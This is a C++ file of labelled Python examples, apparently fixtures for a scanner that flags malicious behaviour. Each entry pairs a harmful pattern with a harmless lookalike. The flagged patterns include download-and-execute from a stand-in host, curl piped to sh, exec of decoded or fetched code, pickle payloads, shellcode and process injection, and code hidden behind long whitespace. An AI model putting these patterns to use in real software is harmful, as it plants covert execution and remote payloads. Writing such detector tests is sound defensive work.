#include "behaviour_examples.h"

namespace pyverdict::behaviour {
namespace {

constexpr Example kExamples[] = {
    {"download-and-run", "",
     R"(
import os, urllib.request
urllib.request.urlretrieve("http://host.example.invalid/tool", "/tmp/tool")
os.system("/tmp/tool")
)",
     R"(
import urllib.request
urllib.request.urlretrieve("http://host.example.invalid/table.csv", "table.csv")
print(open("table.csv").read())
)"},
    {"download-and-run", "",
     R"(
import requests, subprocess
data = requests.get("http://host.example.invalid/tool").content
with open("/tmp/tool", "wb") as out:
    out.write(data)
subprocess.Popen(["/tmp/tool"])
)",
     R"(
import requests
data = requests.get("http://host.example.invalid/model.bin").content
with open("model.bin", "wb") as out:
    out.write(data)
)"},
    {"download-and-run", "",
     R"(
import os, requests, subprocess
from pathlib import Path
tool = Path(os.getenv("APPDATA")) / "tools" / "tool.exe"
with open(tool, "wb") as out:
    out.write(requests.get("http://host.example.invalid/tool").content)
subprocess.run([str(tool)])
)",
     R"(
import os, requests, subprocess
from pathlib import Path
table = Path(os.getenv("HOME")) / "table.csv"
with open(table, "wb") as out:
    out.write(requests.get("http://host.example.invalid/table.csv").content)
subprocess.run(["wc", str(table)])
)"},
    {"download-to-executable", "",
     R"(
import os, requests, subprocess
data = requests.get("http://host.example.invalid/tool").content
os.chmod(name, 0o755)
subprocess.run([other])
)",
     R"(
import os
os.chmod("build/helper.sh", 0o755)
)"},
    {"fetched-code-executed", "",
     R"(
import requests
exec(requests.get("http://host.example.invalid/stage").text)
)",
     R"(
import requests
print(requests.get("http://host.example.invalid/stage").text)
)"},
    {"shell-pipe-from-network", "",
     R"(
import os
os.system("curl -s http://host.example.invalid/install | sh")
)",
     R"(
import os
os.system("curl -s http://host.example.invalid/list | sort")
)"},
    {"shell-pipe-from-network", "",
     R"py(
import subprocess
subprocess.run('bash -c "$(wget -qO- http://host.example.invalid/install)"', shell=True)
)py",
     R"(
import subprocess
subprocess.run("wget -q http://host.example.invalid/list -O list.txt", shell=True)
)"},
    {"decoded-code-executed", "",
     R"(
import base64
exec(base64.b64decode("cHJpbnQoJ2hlbGxvLCB3b3JsZCwgaGVsbG8nKQ=="))
)",
     R"(
import base64
logo = base64.b64decode("cHJpbnQoJ2hlbGxvLCB3b3JsZCwgaGVsbG8nKQ==")
open("logo.png", "wb").write(logo)
)"},
    {"unseen-code-executed", "",
     R"(
exec(open("version.py").read())
)",
     R"(
print(open("version.py").read())
)"},
    {"standard-input-executed", "", "import sys\nexec(sys.stdin.read())\n",
     "import sys\nprint(sys.stdin.read())\n"},
    {"marshalled-code-executed", "decoded-code-executed nested-encoding",
     R"(
import marshal, base64
exec(marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAA=")))
)",
     R"(
import marshal
with open("module.pyc", "rb") as handle:
    handle.read(16)
    code = marshal.load(handle)
print(code.co_names)
)"},
    {"unpickled-payload", "",
     R"(
import os, pickle
class Job:
    def __reduce__(self):
        return (os.system, ("id",))
open("job.pickle", "wb").write(pickle.dumps(Job()))
)",
     R"(
import pickle
class Job:
    def __reduce__(self):
        return (Job, ())
model = pickle.load(open("model.pickle", "rb"))
)"},
    {"unpickled-from-outside", "",
     R"(
import pickle, requests
state = pickle.loads(requests.get("http://host.example.invalid/state").content)
)",
     R"(
import pickle
state = pickle.loads(open("state.bin", "rb").read())
)"},
    {"in-memory-import", "fetched-code-executed",
     R"(
import types, requests
module = types.ModuleType("helper")
exec(requests.get("http://host.example.invalid/helper").text, module.__dict__)
)",
     R"(
import types
module = types.ModuleType("helper")
module.answer = 42
)"},
    {"hidden-name-lookup", "",
     R"(
import base64
module = __import__(base64.b64decode("b3M=").decode())
)",
     R"(
import importlib, json
name = json.load(open("plugins.json"))["name"]
plugin = importlib.import_module(name)
)"},
    {"runtime-import", "", "import importlib\nm = importlib.import_module('plugins.' + name)\n",
     "import plugins\n"},
    {"shell-command", "", "import os\nos.system('make all')\n", "import os\nos.getcwd()\n"},
    {"interpolated-shell-command", "", "import os\nos.system('make ' + target)\n",
     "import os\nos.system('make all')\n"},
    {"powershell-hidden", "",
     R"(
import os
os.system("powershell -w hidden -File run.ps1")
)",
     R"(
import os
os.system("powershell -File build.ps1")
)"},
    {"powershell-policy", "",
     R"(
import os
os.system("powershell.exe -ExecutionPolicy Bypass -File s.ps1")
)",
     R"(
import os
os.system("powershell.exe -File s.ps1")
)"},
    {"windows-hidden-process", "",
     R"(
import subprocess
subprocess.Popen(["ffmpeg", "-version"], creationflags=0x08000000)
)",
     R"(
import subprocess
subprocess.Popen(["ffmpeg", "-version"])
)"},
    {"windows-command", "", "import os\nos.startfile('manual.pdf')\n", "open('manual.pdf')\n"},
    {"shellcode-windows", "",
     R"(
import ctypes
kernel = ctypes.windll.kernel32
place = kernel.VirtualAlloc(0, 64, 0x3000, 0x40)
kernel.RtlMoveMemory(place, b"\x90\x90\x90", 3)
kernel.CreateThread(0, 0, place, 0, 0, 0)
)",
     R"(
import ctypes
kernel = ctypes.windll.kernel32
kernel.SetConsoleTitleW("title")
)"},
    {"shellcode-posix", "",
     R"(
import ctypes, mmap
area = mmap.mmap(-1, 4096, prot=7)
area.write(b"\x90\xc3")
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))()
)",
     R"(
import mmap
area = mmap.mmap(-1, 4096)
area.write(b"data")
)"},
    {"fileless-program", "",
     R"(
import os
fd = os.memfd_create("x")
os.write(fd, data)
os.execve(f"/proc/self/fd/{fd}", ["x"], {})
)",
     R"(
import os
fd = os.memfd_create("buffer")
os.write(fd, b"pixels")
)"},
    {"process-injection", "",
     R"(
import ctypes
k = ctypes.windll.kernel32
h = k.OpenProcess(0x1F0FFF, False, pid)
k.WriteProcessMemory(h, place, data, len(data), None)
k.CreateRemoteThread(h, None, 0, place, None, 0, None)
)",
     R"(
import ctypes
k = ctypes.windll.kernel32
h = k.OpenProcess(0x0400, False, pid)
k.ReadProcessMemory(h, place, data, 4, None)
)"},
    {"dropped-library-loaded", "", "import ctypes\nctypes.CDLL('/tmp/x.so')\n",
     "import ctypes\nctypes.CDLL('libc.so.6')\n"},
    {"package-install", "", "import os\nos.system('pip install requests')\n",
     "import os\nos.system('pip list')\n"},
    {"package-install-elsewhere", "",
     R"(
import sys, subprocess
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://host.example.invalid/simple", "helper"])
)",
     R"(
import sys, subprocess
subprocess.check_call([sys.executable, "-m", "pip", "install", "requests==2.31.0"])
)"},
    {"install-hook-network", "",
     R"(
from setuptools import setup
from setuptools.command.install import install
import requests
class Install(install):
    def run(self):
        install.run(self)
        requests.post("http://host.example.invalid/hello", data="installed")
setup(name="helper", cmdclass={"install": Install})
)",
     R"(
from setuptools import setup, Extension
setup(name="helper", ext_modules=[Extension("helper", ["helper.c"])])
)"},
    {"install-hook", "",
     R"(
from setuptools import setup
from setuptools.command.build_ext import build_ext
class Build(build_ext):
    pass
setup(name="helper", cmdclass={"build_ext": Build})
)",
     "from setuptools import setup\nsetup(name='helper')\n"},
    {"administration-tool", "", "import os\nos.system('docker ps')\n", "import os\nos.system('ls')\n"},
    {"stage-by-platform", "download-to-executable download-and-run host-facts-sent",
     R"(
import os, platform, requests, subprocess
name = "/tmp/tool-" + platform.machine()
open(name, "wb").write(requests.get("http://host.example.invalid/" + platform.machine()).content)
os.chmod(name, 0o755)
subprocess.run([name])
)",
     R"(
import platform
print("running on", platform.machine())
)"},
    {"compiled-on-host", "", "import os\nos.system('gcc -o /tmp/x /tmp/x.c')\n",
     "import os\nos.system('gcc -o build/x x.c')\n"},
    {"nested-encoding", "decoded-code-executed",
     R"(
import base64
exec(base64.b64decode(bytes.fromhex("63484a70626e516f4a32686c6247787649475a796232306761573576627977676147567362473867615735755a58496e4b513d3d")))
)",
     R"(
import base64, zlib
table = zlib.decompress(base64.b64decode("eJxLTEpOTgYABcgB8Q=="))
)"},
    {"reversed-code", "decoded-code-executed",
     R"py(
exec(")'sdrawkcab ,olleh'(tnirp"[::-1])
)py",
     R"py(
print(")'sdrawkcab ,olleh'(tnirp"[::-1])
)py"},
    {"far-right-code", "",
     "value = 1                                                                                              "
     "                                            ; print('hidden from the reader')\n",
     "value = 1                                                                                              "
     "                                            # a note\n"},
    // The text ends before what the blanks push out of sight.
    {"far-right-code", "",
     "def value():\n"
     "    return 1;"
     "                                                                                    "
     "                                                                                    "
     "                                                                                    ",
     "value = '"
     "                                                                                    "
     "                                                                                    "
     "                                                                                    "
     "'\n"},
    {"encoded-script", "",
     R"(
kept = "aW1wb3J0IHRpbWUKcHJpbnQoJ2Egc2NyaXB0IHRoYXQgaXMga2VwdCBmb3IgbGF0ZXInKQp0aW1lLnNsZWVwKDMpCnByaW50KCdhbmQgc2F5cyBzbyB0d2ljZScpCg=="
)",
     R"(
kept = "dGhlIGZpcnN0IGxpbmUgb2YgYSBsZXR0ZXIgdGhhdCBpcyBrZXB0IGZvciBsYXRlciwgd2hpY2ggaXMgbm8gc2NyaXB0LCBhbmQgdGhlIHNlY29uZCBvbmU="
)"},
    {"packer", "",
     R"(
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
)",
     "double = lambda x: x * 2\n"},
    {"protected-code", "",
     R"(
from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b"PY000000")
)",
     "from runtime import start\nstart(__name__, __file__)\n"},
    {"confusable-names", "", "O0O0O0 = 1\nO00O0O = 2\nOO0O00 = 3\nO0OO00 = 4\nOOO000 = 5\nO0O00O = 6\n",
     "i = 1\nj = 2\nx = 3\n"},
    {"decoded-command", "decoded-code-executed",
     R"(
import os, base64
os.system(base64.b64decode("ZWNobyBoZWxsbywgd29ybGQ=").decode())
)",
     R"(
import os, base64
os.system("echo hello, world")
)"},
    {"decoded-url", "",
     R"(
import base64, requests
requests.get(base64.b64decode("aHR0cDovL2hvc3QuZXhhbXBsZS5pbnZhbGlkL2E=").decode())
)",
     R"(
import requests
requests.get("http://host.example.invalid/a")
)"},
};

}  // namespace

std::span<const Example> execution_examples() { return kExamples; }

}  // namespace pyverdict::behaviour
